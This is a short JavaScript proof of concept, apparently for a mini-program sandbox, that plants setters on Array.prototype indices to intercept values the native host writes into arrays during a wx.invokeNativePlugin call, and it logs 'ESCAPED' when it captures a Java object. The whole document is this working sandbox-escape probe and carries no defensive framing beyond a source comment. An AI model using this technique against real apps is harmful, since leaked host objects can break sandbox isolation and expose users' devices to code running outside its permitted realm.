// Puts setters on Array.prototype, to catch what the host's steps put into arrays
// Source: attacks on sandboxes that run in the program's realm
for (let i = 0; i < 20; i++) {
  Object.defineProperty(Array.prototype, i, { set(value) { look(value); }, configurable: true });
}
function look(value) {
  if (value && value.getClass) console.log('ESCAPED: an object of Java');
}
wx.invokeNativePlugin({ api_name: 'echo', data: { list: [1, 2, 3] }, success: look, complete: look });
for (let i = 0; i < 20; i++) delete Array.prototype[i];
